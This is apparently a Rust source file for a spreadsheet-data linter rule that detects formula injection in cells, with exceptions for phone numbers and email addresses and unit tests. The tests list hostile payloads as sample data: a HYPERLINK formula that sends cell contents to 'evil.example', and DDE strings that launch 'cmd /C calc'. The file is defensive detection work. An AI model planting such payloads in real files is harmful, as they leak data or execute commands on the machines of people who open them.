#![doc = include_str!("formula.md")]

use crate::finding::Severity;
use crate::mapping::mapped_column::MappedColumn;
use crate::messages::message;
use crate::profile::field::Type;
use crate::rule::{Applicability, Check, Context, Observation, Rule, ValueCheck};
use crate::source::cell_flags::CellFlags;
use crate::values::digits;
use crate::values::email;
use crate::values::formula::is_formula;

pub(super) const RULE: Rule = Rule {
    name: "formula",
    page: include_str!("formula.md"),
    severity: Severity::Warning,
    yields_to: &["escaped-text"],
    checks: &[Check::Value(check)],
    ..Rule::DEFAULT
};

/// What stands around a text in a formula.
const QUOTE: char = '\u{22}';

fn check<'a>(context: &Context<'a>, column: &'a MappedColumn) -> Applicability<ValueCheck<'a>> {
    let kind = context.field(column).kind;
    let check = ValueCheck::of_cell(move |cell| observe(cell, kind));
    Applicability::Check(check.only_if(CellFlags::MARK_FIRST))
}

fn observe(cell: &str, kind: Type) -> Option<Observation> {
    // Most of what starts with a sign is a phone number.
    if let Some(rest) = cell.strip_prefix('+')
        && digits::are_all(rest.as_bytes())
    {
        return None;
    }
    // A tab or a line end before it hides a formula from people and not from spreadsheets.
    let value = cell.trim();
    if value.strip_prefix('\'').is_some_and(is_formula) {
        return message!("formula-apostrophe").into();
    }
    // `@example.com` is an address whose start is missing.
    if kind == Type::Email && value.starts_with('@') || !is_formula(value) {
        return None;
    }
    let message = message!("formula-start");
    let Some(inner) = value.strip_prefix('=') else {
        return message.into();
    };
    if let Some(text) = as_text(inner) {
        return Some(message.fix(text));
    }
    if kind == Type::Email && email::is_valid(inner) {
        return Some(message.suggest(inner));
    }
    message.into()
}

/// The text in `="0042"` or `=+491713920012`, by which people keep a spreadsheet from changing a number.
fn as_text(inner: &str) -> Option<&str> {
    let quoted = inner
        .strip_prefix(QUOTE)
        .and_then(|rest| rest.strip_suffix(QUOTE));
    if let Some(text) = quoted {
        let whole = !text.is_empty() && text.trim() == text && !text.contains(QUOTE);
        return (whole && !is_formula(text)).then_some(text);
    }
    let digits = inner.strip_prefix('+')?;
    (digits.len() >= 5 && digits::are_all(digits.as_bytes())).then_some(inner)
}

#[cfg(test)]
mod tests {
    use super::observe;
    use crate::profile::field::Type;

    #[test]
    fn formulas_are_found() {
        for cell in [
            "=1+1",
            "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Anna\")",
            "@SUM(1+1)*cmd|'/C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "+1+1",
            "\t=1+1",
            "\r=1+1",
            "=1+1;2",
            "＝1+1",
            "＠lea",
            "@lea",
            "-SUM(A1)",
            "+cmd|' /C calc'!A0",
            "= 1",
            "'=1+1",
            "'@SUM(1)",
        ] {
            assert!(observe(cell, Type::Text).is_some(), "{cell:?}");
        }
    }

    #[test]
    fn numbers_words_and_marks_are_none() {
        for cell in [
            "+49 171 3920012",
            "+49 (0)171-3920012",
            "+49(0)171/3920012",
            "+49 171 3920012 / +49 171 3920013",
            "＋49 171 3920012",
            "-",
            "--",
            "=",
            "===",
            "+",
            "@",
            "@ home",
            "-5",
            "-1,5",
            "- Sales (EMEA)",
            "-keine-",
            "+Plus",
            "\"=1+1\"",
            "%0A=1+1",
            "'s-Gravenhage",
            "'+49 171 3920012",
            "#1",
            "",
        ] {
            assert_eq!(observe(cell, Type::Text), None, "{cell:?}");
        }
        assert_eq!(observe("@example.com", Type::Email), None);
    }

    #[test]
    fn a_number_kept_as_text_is_fixed() {
        for (cell, fix) in [
            ("=\"0042\"", Some("0042")),
            ("=+491713920012", Some("+491713920012")),
            ("=\"=1\"", None),
            ("=\"\"", None),
            ("=\"a\"&\"b\"", None),
            ("=+1", None),
            ("=1+1", None),
        ] {
            let observation = observe(cell, Type::Phone).expect(cell);
            assert_eq!(observation.is_fix, fix.is_some(), "{cell}");
            assert_eq!(observation.suggestion.as_deref(), fix, "{cell}");
        }
        let address = observe("=fritz@example.com", Type::Email).expect("a formula");
        assert_eq!(address.suggestion.as_deref(), Some("fritz@example.com"));
        assert!(!address.is_fix);
    }
}
